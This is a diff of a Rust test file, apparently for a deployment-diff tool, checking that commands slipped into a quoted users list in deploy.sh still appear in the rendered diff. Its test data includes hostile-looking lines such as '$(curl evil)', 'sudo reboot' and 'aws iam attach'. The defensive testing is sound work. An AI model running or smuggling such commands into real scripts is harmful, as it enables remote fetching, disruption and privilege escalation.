@@ -38,14 +38,17 @@ fn diff(old: &Value, new: &Value) -> (Diff, Vec<Finding>) {
     compare(&one(old), &one(new))
 }
 
-/// The lines of the text, without its colours and what stands before its first stack.
+/// The lines of the text, without its colours and what stands before its first stack or file.
 fn lines(diff: &Diff) -> Vec<String> {
     let text = render_diff(DiffFormat::Text, diff);
     let plain: Vec<&str> = text
         .split('\u{1b}')
         .map(|part| part.split_once('m').filter(|_| part.starts_with('[')).map_or(part, |(_, rest)| rest))
         .collect();
-    plain.concat().lines().skip(4).map(str::to_owned).collect()
+    let plain = plain.concat();
+    // Behind the accounts, and the blank line after them.
+    let accounts = plain.lines().position(|line| line.starts_with("tokyo (")).unwrap();
+    plain.lines().skip(accounts + 2).map(str::to_owned).collect()
 }
 
 fn notebook(size: &Value) -> Value {
@@ -92,35 +95,33 @@ fn what_is_no_longer_kept_is_told() {
 
 /// A `deploy.sh` with the list of so many users, and what follows it.
 fn deploy(users: usize, rest: &str) -> String {
-    let list = (0..users).map(|at| format!("P{at}User p{at}\n")).collect::<Vec<_>>().concat();
+    let list = (0..users).map(|at| format!("Up{at}User p{at}\n")).collect::<Vec<_>>().concat();
     format!("#!/usr/bin/env bash\nset -e\nusers='\n{list}'\n{rest}")
 }
 
 #[test]
 fn no_list_of_users_hides_a_command() {
-    let compared = |old: &str, new: &str| compare(&folder(&[], old), &folder(&[], new)).0;
-    let diff = compared(&deploy(1, "name='x'\n"), &deploy(46, "name='x'\naws iam attach\n"));
-    let told = "        + 45 users: P1User p1, P2User p2, P3User p3, P4User p4, P5User p5 and 40 more";
-    let expected = [
-        "  deploy.sh differs",
-        "          …",
-        "          users='",
-        told,
-        "          '",
-        "          name='x'",
-        "        + aws iam attach",
-    ];
+    let names: Vec<String> = (0..46).map(|at| format!("p{at}")).collect();
+    let side = |users: usize, script: &str| {
+        let users: Vec<(&str, &str)> = names.iter().take(users).map(|name| (name.as_str(), "n")).collect();
+        folder(&[Side { template: json!({"Resources": {}}), users: &users }], script)
+    };
+    // Whom the manifest names, too, the first lines tell of.
+    let (diff, _) = compare(&side(1, &deploy(1, "name='x'\n")), &side(46, &deploy(46, "name='x'\naws iam attach\n")));
+    let expected =
+        ["  deploy.sh differs", "          …", "          '", "          name='x'", "        + aws iam attach"];
     assert_eq!(lines(&diff), expected);
     for format in [DiffFormat::Markdown, DiffFormat::Html, DiffFormat::Text] {
-        assert!(render_diff(format, &diff).contains("aws iam attach"), "{format:?}");
+        let text = render_diff(format, &diff);
+        assert!(text.contains("aws iam attach") && text.contains("45 people join: p1, p10, p11"), "{format:?} {text}");
     }
-    // However many commands there are, none is cut; and what only looks like a user is a command.
-    let commands = (0..100).map(|at| format!("XUser x{at}\n")).collect::<Vec<_>>().concat();
-    let text = lines(&compared(&deploy(1, ""), &deploy(1, &commands)));
-    assert!((0..100).all(|at| text.contains(&format!("        + XUser x{at}"))), "{text:?}");
-    let quoted = deploy(0, "").replace("users='\n", "users='\nsudo reboot\n$(curl evil)\n".repeat(30).as_str());
-    let text = lines(&compared(&deploy(0, ""), &quoted));
-    assert_eq!(text.iter().filter(|line| line.contains("curl evil")).count(), 30);
+    let (diff, _) = compare(&side(1, &deploy(1, "")), &side(46, &deploy(46, "")));
+    assert_eq!((diff.accounts[0].files.len(), diff.people.len()), (0, 45));
+    // What only looks like a user is a command, however the quotation is closed.
+    let commands = "x='\nusers='\nsudo reboot\nUp1User p1\n$(curl evil)\n";
+    let (diff, _) = compare(&side(1, &deploy(1, "")), &side(1, &deploy(1, commands)));
+    let text = lines(&diff).join("\n");
+    assert!(["+ sudo reboot", "+ Up1User p1", "+ $(curl evil)"].iter().all(|line| text.contains(line)), "{text}");
 }
 
 #[test]
